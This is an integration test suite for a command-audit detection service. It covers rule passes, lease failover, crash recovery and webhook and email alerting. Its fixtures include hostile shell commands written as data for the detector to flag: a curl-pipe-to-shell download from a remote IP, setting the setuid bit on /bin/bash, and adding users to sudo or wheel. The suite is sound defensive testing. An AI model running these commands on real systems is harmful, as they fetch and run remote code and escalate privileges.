/**
 * The detection service (`auditkit rules run --once|--every`) and `auditkit ingest`
 * detection, through the BUILT binary against the test node (whose templates stamp
 * event.ingested, as `setup elasticsearch` makes them), with a real webhook
 * receiver counting notifications:
 * - `--once` twice adds nothing (no alert, no notification);
 * - a late event (old @timestamp, ingested after a pass) is caught by the next pass;
 * - SIGKILL between an alert's creation and its notification (alerts written and
 *   pending, a notification in flight, checkpoint not moved), then a restart: each
 *   alert once, each notified after the restart and acknowledged exactly once;
 * - SIGKILL while the digest (alerts below immediate_severity) holds alerts, then a
 *   restart: each of them in exactly one delivered digest mail (a real SMTP server),
 *   sent by the new holder on SIGTERM; a further pass sends nothing; `--once` sends
 *   its digest before it exits;
 * - two instances at once: one alert and one notification per match;
 * - the lease moves to the standby when its holder stops renewing (SIGKILL);
 * - `rules status --json` shows per rule last pass, lag, events, alerts;
 * - `ingest` of a legacy log with `curl … | bash` leaves its alert (and the day's
 *   report lists it); `--no-rules` leaves none.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { simpleParser, type ParsedMail } from 'mailparser';
import { SMTPServer } from 'smtp-server';
import { DETECT_STATE_INDEX } from '../../elastic';
import { commandEvent } from '../../rules';
import { streamName } from '../../schema';
import { BIN, REPO, runCli } from '../foundation/cli';
import { deleteNamespace, testClient, writeTestConfig } from '../harness/es';

const built = fs.existsSync(path.join(REPO, 'dist', 'cli', 'main.js'));
if (!built) console.warn('test/rules/service.test.ts skipped: run `npm run build` first (it drives the built binary)');
const d = built ? describe : describe.skip;

interface Pass {
  ran: boolean;
  holder: string;
  timeField: string;
  created: number;
  existing: number;
  errors: string[];
}

interface Status {
  lease: { holder: string; live: boolean } | null;
  rules: Array<{ rule: string; last_pass: string | null; checkpoint: string | null; lag_s: number | null; events: number; alerts: number; alerts_total: number; passes: number; errors_total: number; error: string | null }>;
}

d('the detection service (rules run --once/--every) and ingest detection', () => {
  const es = testClient();
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ak-detectsvc-'));
  const namespaces: string[] = [];
  const children = new Set<ChildProcess>();
  /** Alert ids in notifications received, in order. */
  let notified: string[] = [];
  /** Alert ids in notifications answered 200 (the sender saw them delivered), in order. */
  let acked: string[] = [];
  /** When set, the next request is held unanswered and this runs. */
  let onHold: (() => void) | undefined;
  const held: http.ServerResponse[] = [];
  let server: http.Server;
  let hookUrl = '';
  /** Mails the SMTP server accepted. */
  const mails: ParsedMail[] = [];
  let smtp: SMTPServer;
  let smtpPort = 0;

  beforeAll(async () => {
    server = http.createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        const msg = JSON.parse(body) as { alerts: Array<{ id: string }> };
        notified.push(...msg.alerts.map((a) => a.id));
        if (onHold) {
          const f = onHold;
          onHold = undefined;
          held.push(res);
          f();
          return;
        }
        acked.push(...msg.alerts.map((a) => a.id));
        res.end('{}');
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    hookUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`;
    smtp = new SMTPServer({
      authOptional: true,
      disabledCommands: ['STARTTLS'],
      logger: false,
      onData(stream, _session, cb) {
        simpleParser(stream).then((m) => {
          mails.push(m);
          cb();
        }, cb);
      },
    });
    await new Promise<void>((r) => smtp.listen(0, '127.0.0.1', r));
    smtpPort = (smtp.server.address() as AddressInfo).port;
  });

  afterAll(async () => {
    for (const c of children) c.kill('SIGKILL');
    for (const r of held) r.destroy();
    server.closeAllConnections();
    await new Promise<void>((r) => server.close(() => r()));
    await new Promise<void>((r) => smtp.close(() => r()));
    for (const ns of namespaces) {
      await deleteNamespace(es, ns);
      await es.deleteByQuery({ index: DETECT_STATE_INDEX, query: { term: { namespace: ns } }, refresh: true, ignore_unavailable: true }).catch(() => undefined);
    }
    fs.rmSync(dir, { recursive: true, force: true });
    await es.close();
  });

  /**
   * lease_ttl: short where a test waits for a lease to expire; elsewhere long, so a
   * process starved of CPU on a loaded machine keeps its lease through a pass.
   */
  function config(name: string, ttl = '60s'): { ns: string; cfg: string } {
    return writeTestConfig(dir, name, namespaces, [
      'rules:',
      `  schedule: { lookback: 1h, overlap: 1m, delay: 0s, lease_ttl: ${ttl}, time_field: auto }`,
      '  notify:',
      '    min_severity: low',
      '    immediate_severity: low',
      '    throttle: { window: 1m, max: 1000 }',
      '    retries: 0',
      '    webhooks:',
      `      - { name: ops, url: ${hookUrl}, min_severity: low, timeout_ms: 60000 }`,
    ]);
  }

  /**
   * Whether the node stamps event.ingested itself. The kit's pipeline needs the `set`
   * processor (ingest-common); the test node's trimmed distribution may lack it, and
   * then the test stamps event.ingested at write time exactly as that pipeline would.
   */
  let stamps: boolean | undefined;
  async function write(ns: string, docs: Array<Record<string, unknown>>): Promise<void> {
    if (stamps === undefined) {
      const p = (await es.transport.request({ method: 'GET', path: '/_ingest/pipeline/logs-auditkit@ingested' }, { ignore: [404] })) as Record<string, unknown>;
      stamps = Boolean(p['logs-auditkit@ingested']);
    }
    if (!stamps) for (const doc of docs) (doc['event'] as Record<string, unknown>)['ingested'] = new Date().toISOString();
    const res = await es.bulk({ refresh: 'wait_for', operations: docs.flatMap((doc) => [{ create: { _index: streamName('commands', ns), _id: (doc['event'] as { id: string }).id } }, doc]) });
    expect(res.errors).toBe(false);
  }

  /** Alert ids in the namespace, with the source event ids each covers. */
  async function alerts(ns: string): Promise<Array<{ id: string; rule: string; sources: string[]; notification: string | undefined; holder: string | undefined }>> {
    // Right after the pass created the alerts stream, its shard may not be allocated yet (a busy
    // machine): no_shard_available is "none yet" to the waits that call this, not a failure.
    const notYet = (e: unknown): undefined => {
      if (/no_shard_available|NoShardAvailable/.test(String((e as { message?: string }).message ?? e))) return undefined;
      throw e;
    };
    await es.indices.refresh({ index: streamName('alerts', ns), ignore_unavailable: true }).catch(notYet);
    const res = await es.search<{ rule: { id: string }; auditkit: { alert: { source_event_ids: string[]; notification?: string; digest_holder?: string } } }>({ index: streamName('alerts', ns), size: 1000, ignore_unavailable: true }).catch(notYet);
    if (!res) return [];
    return res.hits.hits.map((h) => ({ id: h._id as string, rule: h._source?.rule.id ?? '', sources: h._source?.auditkit.alert.source_event_ids ?? [], notification: h._source?.auditkit.alert.notification, holder: h._source?.auditkit.alert.digest_holder }));
  }

  /** Each alert id in each digest mail received (the mail text names them: `alert ID`). */
  const digestIds = (): string[][] => mails.filter((m) => m.headers.get('x-auditkit-kind') === 'digest').map((m) => [...(m.text ?? '').matchAll(/^ {2}alert (\S+)$/gm)].map((x) => x[1] as string));

  /** Every alert below critical goes to the digest (mailed), sent once an hour: only a stopping process sends it. */
  function digestConfig(name: string, ttl: string): { ns: string; cfg: string } {
    return writeTestConfig(dir, name, namespaces, [
      `smtp: { host: 127.0.0.1, port: ${smtpPort}, from: auditkit@example.com, require_tls: false }`,
      'rules:',
      `  schedule: { lookback: 1h, overlap: 1m, delay: 0s, lease_ttl: ${ttl}, time_field: auto }`,
      '  notify:',
      '    min_severity: low',
      '    immediate_severity: critical',
      '    digest_interval: 1h',
      '    retries: 0',
      '    email: { enabled: true, to: [ops@example.com] }',
    ]);
  }

  const once = async (cfg: string, extra: string[] = []): Promise<Pass> => {
    const r = await runCli(['--config', cfg, 'rules', 'run', '--once', '--json', ...extra]);
    expect([r.code, r.stdout, r.stderr]).toEqual([0, expect.any(String), expect.any(String)]);
    return JSON.parse(r.stdout.trim().split('\n').pop() as string) as Pass;
  };

  /** `--once` until this instance ran a pass (a killed holder's lease expires within lease_ttl). */
  async function onceWhenFree(cfg: string): Promise<Pass> {
    for (let i = 0; i < 20; i++) {
      const p = await once(cfg);
      if (p.ran) return p;
      await new Promise((r) => setTimeout(r, 500));
    }
    throw new Error('the lease never became free');
  }

  const lease = async (ns: string): Promise<{ holder: string; live: boolean } | undefined> => {
    // 503 while the state index is being created by the service's first write (its shard not yet started).
    const r = await es.get<{ holder: string; expires: string }>({ index: DETECT_STATE_INDEX, id: `lease:${ns}` }, { ignore: [404, 503] });
    return r._source ? { holder: r._source.holder, live: Date.parse(r._source.expires) > Date.now() } : undefined;
  };

  const status = async (cfg: string): Promise<Status> => {
    const r = await runCli(['--config', cfg, 'rules', 'status', '--json']);
    return JSON.parse(r.stdout) as Status;
  };

  function start(args: string[]): ChildProcess {
    const c = spawn(process.execPath, [BIN, ...args], { cwd: REPO, env: { ...process.env, AUDITKIT_CONFIG: '' }, stdio: ['ignore', 'pipe', 'pipe'] });
    c.stdout?.resume();
    c.stderr?.resume();
    children.add(c);
    c.on('exit', () => children.delete(c));
    return c;
  }
  const exited = (c: ChildProcess): Promise<void> => (c.exitCode !== null || c.signalCode !== null ? Promise.resolve() : new Promise((r) => c.once('exit', () => r())));

  async function until(what: string, f: () => Promise<boolean>, ms = 20_000): Promise<void> {
    const end = Date.now() + ms;
    while (Date.now() < end) {
      if (await f()) return;
      await new Promise((r) => setTimeout(r, 300));
    }
    throw new Error(`timed out waiting for ${what}`);
  }

  const ago = (ms: number): string => new Date(Date.now() - ms).toISOString();
  const dupes = (ids: readonly string[]): string[] => ids.filter((x, i) => ids.indexOf(x) !== i);

  it('--once twice adds nothing; a late event is still caught; status shows each rule', async () => {
    notified = [];
    const { ns, cfg } = config('once');
    await write(ns, [commandEvent('chmod u+s /bin/bash', { id: `${ns}-a`, timestamp: ago(60_000) }), commandEvent('usermod -aG sudo mallory', { id: `${ns}-b`, timestamp: ago(30_000) }), commandEvent('ls -la', { id: `${ns}-c`, timestamp: ago(20_000) })]);
    const first = await once(cfg);
    expect(first).toMatchObject({ ran: true, timeField: 'event.ingested', existing: 0, errors: [] });
    const a1 = await alerts(ns);
    expect(a1.map((a) => a.rule)).toEqual(expect.arrayContaining(['ak-lnx-setuid-bit-set', 'ak-lnx-user-added-privileged-group']));
    expect(first.created).toBe(a1.length);
    await until('notifications', async () => notified.length >= a1.length, 10_000);
    expect(notified.slice().sort()).toEqual(a1.map((a) => a.id).sort());

    const second = await once(cfg);
    expect(second).toMatchObject({ ran: true, created: 0, errors: [] });
    expect((await alerts(ns)).length).toBe(a1.length);
    expect(notified.length).toBe(a1.length);

    // Late: an event stamped 3 hours ago (before the lookback and the checkpoint), ingested now.
    await write(ns, [commandEvent('chmod u+s /bin/dash', { id: `${ns}-late`, timestamp: ago(3 * 3_600_000) })]);
    const third = await once(cfg);
    expect(third.created).toBeGreaterThanOrEqual(1);
    const a3 = await alerts(ns);
    expect(a3.filter((a) => a.sources.includes(`${ns}-late`)).map((a) => a.rule)).toContain('ak-lnx-setuid-bit-set');
    await until('the late notification', async () => notified.length === a3.length, 10_000);
    expect(dupes(notified)).toEqual([]);

    const st = await status(cfg);
    const row = st.rules.find((r) => r.rule === 'ak-lnx-setuid-bit-set');
    expect(row).toMatchObject({ passes: 3, errors_total: 0, error: null, alerts: 1, alerts_total: 2 });
    expect(row?.lag_s).toBeGreaterThanOrEqual(0);
    expect(row?.lag_s).toBeLessThan(60);
    expect(row?.events).toBeGreaterThanOrEqual(1);
    expect(st.rules.length).toBeGreaterThan(50);
    expect(st.lease).toMatchObject({ live: false }); // --once gives the lease up
    expect(await lease(ns)).toMatchObject({ live: false });
    const table = await runCli(['--config', cfg, 'rules', 'status']);
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/ak-lnx-setuid-bit-set/);
  }, 240_000);

  it('a SIGKILL between an alert\'s creation and its notification, then a restart: each alert once, each notified (at least once, acknowledged once)', async () => {
    notified = [];
    acked = [];
    const { ns, cfg } = config('kill', '4s');
    await write(ns, [commandEvent('chmod u+s /bin/bash', { id: `${ns}-a`, timestamp: ago(60_000) }), commandEvent('usermod -aG sudo mallory', { id: `${ns}-b`, timestamp: ago(30_000) })]);
    const c = start(['--config', cfg, 'rules', 'run', '--once', '--json']);
    // The first notification is held unanswered and the process killed: its alerts are
    // written (pending), none is marked sent, no checkpoint moved.
    onHold = () => c.kill('SIGKILL');
    await exited(c);
    expect(c.signalCode).toBe('SIGKILL');
    const before = await alerts(ns);
    expect(before.length).toBeGreaterThanOrEqual(2);
    expect(before.map((a) => a.notification)).toEqual(before.map(() => 'pending'));
    const st = await es.search({ index: DETECT_STATE_INDEX, query: { bool: { filter: [{ term: { namespace: ns } }, { term: { kind: 'checkpoint' } }] } }, ignore_unavailable: true });
    expect(st.hits.hits).toEqual([]); // no checkpoint moved
    expect(acked).toEqual([]); // nothing acknowledged before the kill
    const heldIds = notified.slice();

    const rerun = await onceWhenFree(cfg); // the killed holder's lease expires after lease_ttl
    expect(rerun).toMatchObject({ ran: true, errors: [], notified: before.length });
    const after = await alerts(ns);
    // Every match has exactly one alert (the pass ran its window again: 409s, no new ids).
    expect(after.map((a) => a.id).sort()).toEqual(before.map((a) => a.id).sort());
    expect(dupes(after.map((a) => `${a.rule}|${a.sources.join(',')}`))).toEqual([]);
    expect(rerun).toMatchObject({ existing: before.length, created: 0 });
    // Each alert was notified after the restart, exactly once: the ones never sent, and the
    // one in flight at the kill again (at least once, the same alert id).
    expect(acked.slice().sort()).toEqual(after.map((a) => a.id).sort());
    expect(notified.filter((id) => !heldIds.includes(id)).sort()).toEqual(after.map((a) => a.id).filter((id) => !heldIds.includes(id)).sort());
    expect(after.map((a) => a.notification)).toEqual(after.map(() => 'sent'));
    // A third pass notifies nothing again.
    const third = await once(cfg);
    expect(third).toMatchObject({ ran: true, created: 0, notified: 0 });
    await new Promise((r) => setTimeout(r, 500));
    expect(dupes(acked)).toEqual([]);
  }, 150_000);

  it('a SIGKILL while the digest holds alerts, then a restart: each of them in exactly one delivered digest mail; a further pass sends nothing', async () => {
    mails.length = 0;
    const { ns, cfg } = digestConfig('digest', '4s');
    await write(ns, [commandEvent('chmod u+s /bin/bash', { id: `${ns}-a`, timestamp: ago(60_000) }), commandEvent('usermod -aG sudo mallory', { id: `${ns}-b`, timestamp: ago(30_000) })]);
    const A = start(['--config', cfg, 'rules', 'run', '--every', '1h', '--instance', 'first']);
    // A's pass wrote the alerts and handed them to its hub, whose digest holds them (due in an hour).
    await until('the pass handed the alerts over', async () => {
      const a = await alerts(ns);
      return a.length >= 2 && a.every((x) => x.holder !== undefined || x.notification !== 'pending');
    }, 60_000);
    const before = await alerts(ns);
    expect(before.map((a) => [a.notification, a.holder])).toEqual(before.map(() => ['pending', 'first']));
    A.kill('SIGKILL');
    await exited(A);
    expect(mails).toEqual([]); // the digest died with A

    // The new holder (once A's lease expired) hands A's held alerts over again and sends its digest on SIGTERM.
    const B = start(['--config', cfg, 'rules', 'run', '--every', '1s', '--instance', 'second']);
    await until('B holds the alerts in its digest', async () => (await alerts(ns)).every((a) => a.holder === 'second'), 60_000);
    expect(mails).toEqual([]);
    B.kill('SIGTERM');
    await exited(B);
    expect(B.exitCode).toBe(0);
    await until('the digest mail', async () => mails.length >= 1, 10_000);
    const ids = before.map((a) => a.id).sort();
    expect(digestIds().flat().sort()).toEqual(ids); // each alert in exactly one delivered digest
    expect(mails).toHaveLength(1);
    const after = await alerts(ns);
    expect(after.map((a) => a.notification)).toEqual(after.map(() => 'sent'));

    // A further pass sends nothing.
    const again = await onceWhenFree(cfg);
    expect(again).toMatchObject({ ran: true, created: 0, notified: 0 });
    // --once sends its digest before it exits: a new alert, one more mail with it alone.
    await write(ns, [commandEvent('chmod u+s /bin/dash', { id: `${ns}-c`, timestamp: ago(5_000) })]);
    const last = await once(cfg);
    expect(last).toMatchObject({ ran: true, created: 1, notified: 1, held: 1 });
    await until('the second digest mail', async () => mails.length >= 2, 10_000);
    await new Promise((r) => setTimeout(r, 500));
    const fresh = (await alerts(ns)).filter((a) => !ids.includes(a.id));
    expect(mails).toHaveLength(2);
    expect(digestIds()[1]).toEqual(fresh.map((a) => a.id));
    expect((await alerts(ns)).map((a) => a.notification)).toEqual(after.concat(fresh).map(() => 'sent'));
  }, 180_000);

  it('two instances at once: one alert and one notification per match', async () => {
    notified = [];
    const { ns, cfg } = config('twin');
    await write(ns, [commandEvent('chmod u+s /bin/bash', { id: `${ns}-a`, timestamp: ago(60_000) }), commandEvent('usermod -aG wheel eve', { id: `${ns}-b`, timestamp: ago(30_000) })]);
    const [p1, p2] = await Promise.all([once(cfg, ['--instance', 'one']), once(cfg, ['--instance', 'two'])]);
    expect(p1.created + p2.created).toBe((await alerts(ns)).length);
    const a = await alerts(ns);
    expect(a.length).toBeGreaterThanOrEqual(2);
    expect(dupes(a.map((x) => `${x.rule}|${x.sources.join(',')}`))).toEqual([]);
    await until('notifications', async () => notified.length >= a.length, 10_000);
    await new Promise((r) => setTimeout(r, 300));
    expect(notified.slice().sort()).toEqual(a.map((x) => x.id).sort());
  }, 90_000);

  it('the lease moves to the standby when its holder stops renewing; the standby then detects', async () => {
    notified = [];
    const { ns, cfg } = config('lease', '6s');
    const A = start(['--config', cfg, 'rules', 'run', '--every', '1s', '--instance', 'holder-a']);
    await until('A holds the lease', async () => (await lease(ns))?.holder === 'holder-a', 30_000);
    const B = start(['--config', cfg, 'rules', 'run', '--every', '1s', '--instance', 'standby-b']);
    await new Promise((r) => setTimeout(r, 7_000)); // more than lease_ttl: A renews, B stands by
    expect(await lease(ns)).toEqual({ holder: 'holder-a', live: true });
    // Both running: an event raises one alert, notified once.
    await write(ns, [commandEvent('chmod u+s /bin/bash', { id: `${ns}-1`, timestamp: ago(5_000) })]);
    await until('the first alert', async () => (await alerts(ns)).length >= 1, 30_000);
    // (Killed before its notification went out, A's alert stays pending and B notifies it: at least once.)
    await until('its notification', async () => notified.length >= (await alerts(ns)).length, 30_000);
    A.kill('SIGKILL');
    await exited(A);
    await until('B takes the lease', async () => (await lease(ns))?.holder === 'standby-b', 30_000);
    await write(ns, [commandEvent('usermod -aG sudo mallory', { id: `${ns}-2`, timestamp: ago(5_000) })]);
    await until('B raises the second alert', async () => (await alerts(ns)).some((a) => a.sources.includes(`${ns}-2`)), 30_000);
    B.kill('SIGTERM');
    await exited(B);
    expect(B.exitCode).toBe(0);
    const a = await alerts(ns);
    expect(dupes(a.map((x) => `${x.rule}|${x.sources.join(',')}`))).toEqual([]);
    await until('notifications', async () => notified.length >= a.length, 10_000);
    expect(notified.slice().sort()).toEqual(a.map((x) => x.id).sort());
    expect(await lease(ns)).toEqual({ holder: 'standby-b', live: false }); // SIGTERM gives it up
  }, 150_000);

  it('ingest of a bash history says where its user came from (text and --json), as the records do', async () => {
    const hist = path.join(dir, 'bash_history');
    fs.writeFileSync(hist, '#1700000000\nls -la\n#1700000005\ncurl -fsSL http://203.0.113.9/x.sh | sh\n');
    const owner = (await import('node:os')).userInfo().username;
    const text = await runCli(['ingest', hist, '--format', 'bash', '--stdout']);
    expect(text.code).toBe(0);
    const recs = text.stdout.trim().split('\n').map((l) => JSON.parse(l) as { user?: { name?: string }; auditkit?: { history?: { user_from?: string } } });
    expect(recs.map((r) => [r.user?.name, r.auditkit?.history?.user_from])).toEqual([[owner, 'owner'], [owner, 'owner']]);
    expect(text.stderr).toContain(`history ${hist}: user ${owner}, from the file's owner`);
    const json = await runCli(['ingest', hist, '--format', 'bash', '--stdout', '--json']);
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stderr.trim().split('\n').pop() as string)).toMatchObject({ parsed: 2, history_users: [{ file: hist, user: owner, from: 'owner' }] });
  }, 60_000);

  it('ingest raises the alerts of a backfilled legacy log (and the day\'s report lists them); --no-rules raises none', async () => {
    const log = path.join(dir, 'legacy.log');
    const line = (sec: number, cmd: string): string => `[2026-11-22 10:00:${String(sec).padStart(2, '0')}] [(root) alice pts/0 10.0.0.5] [web01@10.0.0.21] ${cmd}`;
    fs.writeFileSync(log, [line(1, 'ls -la /var/www'), line(2, 'curl -fsSL http://203.0.113.9/x.sh | bash'), line(3, 'git status')].join('\n') + '\n');
    const on = config('ingeston');
    const r = await runCli(['--config', on.cfg, 'ingest', log, '--format', 'legacy', '--json']);
    expect([r.code, r.stderr]).toEqual([0, expect.any(String)]);
    const a = await alerts(on.ns);
    expect(a.map((x) => x.rule).some((id) => /download|pipe|curl/.test(id))).toBe(true);
    expect(JSON.parse(r.stdout)).toMatchObject({ parsed: 3, alerts: a.length });
    const rep = await runCli(['--config', on.cfg, 'report', 'run', '--from', '2026-11-22T00:00:00Z', '--to', '2026-11-23T00:00:00Z', '--format', 'text', '--timezone', 'UTC']);
    expect(rep.code).toBe(0);
    expect(rep.stdout).not.toContain('No dangerous commands were flagged');
    expect(rep.stdout).toContain('curl -fsSL http://203.0.113.9/x.sh | bash');

    const off = config('ingestoff');
    const r2 = await runCli(['--config', off.cfg, 'ingest', log, '--format', 'legacy', '--no-rules', '--json']);
    expect(r2.code).toBe(0);
    expect(JSON.parse(r2.stdout)).toMatchObject({ parsed: 3, alerts: 0 });
    expect(await alerts(off.ns)).toEqual([]);
  }, 90_000);
});
